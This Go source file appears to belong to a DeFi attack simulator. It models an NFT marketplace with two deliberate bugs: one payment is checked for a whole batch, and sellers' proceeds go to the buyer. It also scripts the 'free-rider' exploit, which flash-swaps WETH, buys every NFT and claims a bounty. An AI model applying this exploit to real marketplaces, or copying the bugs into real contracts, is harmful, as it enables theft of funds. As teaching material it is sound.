package scenario

import (
	"context"
	"errors"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"

	"ammlab/internal/amm"
	"ammlab/internal/exchange"
	"ammlab/internal/ledger"
)

var (
	errNoOffer           = errors.New("token not offered")
	errInsufficientValue = errors.New("insufficient payment")
)

// marketplace sells NFTs for native ETH. Two bugs are modelled: every offer
// in a batch is checked against the same payment, and the price is paid to
// the token's owner after ownership has already moved to the buyer.
type marketplace struct {
	book    *ledger.Ledger
	account common.Address
	owners  map[int]common.Address
	offers  map[int]*big.Int
}

func newMarketplace(book *ledger.Ledger, account, seller common.Address, tokens int, price *big.Int) *marketplace {
	m := &marketplace{
		book:    book,
		account: account,
		owners:  make(map[int]common.Address, tokens),
		offers:  make(map[int]*big.Int, tokens),
	}
	for id := 0; id < tokens; id++ {
		m.owners[id] = seller
		m.offers[id] = new(big.Int).Set(price)
	}
	return m
}

func (m *marketplace) buyMany(buyer common.Address, ids []int, value *big.Int) error {
	for _, id := range ids {
		price, ok := m.offers[id]
		if !ok {
			return fmt.Errorf("token %d: %w", id, errNoOffer)
		}
		if value.Cmp(price) < 0 {
			return fmt.Errorf("token %d: %w", id, errInsufficientValue)
		}
	}

	err := m.book.Atomic(func() error {
		if err := m.book.Transfer(ledger.Native, buyer, m.account, value); err != nil {
			return err
		}
		for _, id := range ids {
			if err := m.book.Transfer(ledger.Native, m.account, buyer, m.offers[id]); err != nil {
				return fmt.Errorf("pay token %d: %w", id, err)
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	for _, id := range ids {
		m.owners[id] = buyer
		delete(m.offers, id)
	}
	return nil
}

func (m *marketplace) transfer(from, to common.Address, id int) error {
	if m.owners[id] != from {
		return fmt.Errorf("token %d not owned by %s", id, from.Hex())
	}
	m.owners[id] = to
	return nil
}

func (m *marketplace) balanceOf(owner common.Address) int {
	n := 0
	for _, o := range m.owners {
		if o == owner {
			n++
		}
	}
	return n
}

// freeRider: borrow one NFT's price with a flash swap, buy every NFT with it,
// collect the recovery bounty and repay the pair.
func freeRider() Scenario {
	return Scenario{
		Name:        "free-rider",
		Description: "Flash-swap WETH to buy every NFT from a marketplace that checks one payment per batch and pays buyers.",
		Defaults: Params{
			"exchange_weth":       "9000",
			"exchange_tokens":     "15000",
			"nft_price":           "15",
			"nfts":                "6",
			"marketplace_balance": "90",
			"bounty":              "45",
			"player_eth":          "0.5",
		},
		run: runFreeRider,
	}
}

func runFreeRider(ctx context.Context, env *Env) (bool, error) {
	amt, err := loadAmounts(env, "exchange_weth", "exchange_tokens", "nft_price", "marketplace_balance", "bounty", "player_eth")
	if err != nil {
		return false, err
	}
	nfts, err := env.Count("nfts")
	if err != nil {
		return false, err
	}
	weth, token := Address("token/WETH"), Address("token/DVT")
	deployer, player, recovery := Address("deployer"), Address("player"), Address("free-rider/recovery")

	ex, err := newSeededExchange(env, exchange.Config{
		Name:    "free-rider-pair",
		Account: Address("free-rider/pair"),
		TokenA:  weth,
		TokenB:  token,
	}, deployer, amt["exchange_weth"], amt["exchange_tokens"])
	if err != nil {
		return false, err
	}
	market := newMarketplace(env.Book, Address("free-rider/marketplace"), deployer, nfts, amt["nft_price"])
	if err := env.Mint(ledger.Native, market.account, amt["marketplace_balance"]); err != nil {
		return false, err
	}
	if err := env.Mint(ledger.Native, recovery, amt["bounty"]); err != nil {
		return false, err
	}
	if err := env.Mint(ledger.Native, player, amt["player_eth"]); err != nil {
		return false, err
	}

	env.Track("marketplace", market.account, "ETH", ledger.Native)
	env.Track("recovery", recovery, "ETH", ledger.Native)
	env.Track("player", player, "ETH", ledger.Native)

	ids := make([]int, nfts)
	for i := range ids {
		ids[i] = i
	}

	_, err = ex.FlashSwap(ctx, player, weth, amt["nft_price"], func(ctx context.Context, borrowed *big.Int) error {
		env.Step("flash_swap", "borrow %s WETH from the pair", formatEther(borrowed))
		if err := unwrap(env, weth, player, borrowed); err != nil {
			return err
		}
		if err := market.buyMany(player, ids, borrowed); err != nil {
			return fmt.Errorf("buy: %w", err)
		}
		env.Step("buy", "buy %d NFTs paying %s ETH once", len(ids), formatEther(borrowed))

		for _, id := range ids {
			if err := market.transfer(player, recovery, id); err != nil {
				return err
			}
		}
		if market.balanceOf(recovery) == nfts {
			if err := env.Book.Transfer(ledger.Native, recovery, player, amt["bounty"]); err != nil {
				return fmt.Errorf("bounty: %w", err)
			}
			env.Step("transfer", "hand %d NFTs to the recovery contract for a %s ETH bounty", nfts, formatEther(amt["bounty"]))
		}

		repay, err := amm.FlashSwapRepayment(borrowed, ex.Pool().Fee())
		if err != nil {
			return err
		}
		if err := wrap(env, weth, player, repay); err != nil {
			return err
		}
		if err := env.Book.Transfer(weth, player, ex.Account(), repay); err != nil {
			return fmt.Errorf("repay: %w", err)
		}
		env.Step("repay", "repay %s WETH", formatEther(repay))
		return nil
	})
	if err != nil {
		return false, fmt.Errorf("flash swap: %w", err)
	}

	return env.Book.BalanceOf(ledger.Native, player).Cmp(amt["bounty"]) > 0 &&
		env.Book.BalanceOf(ledger.Native, recovery).Sign() == 0 &&
		market.balanceOf(recovery) == nfts, nil
}
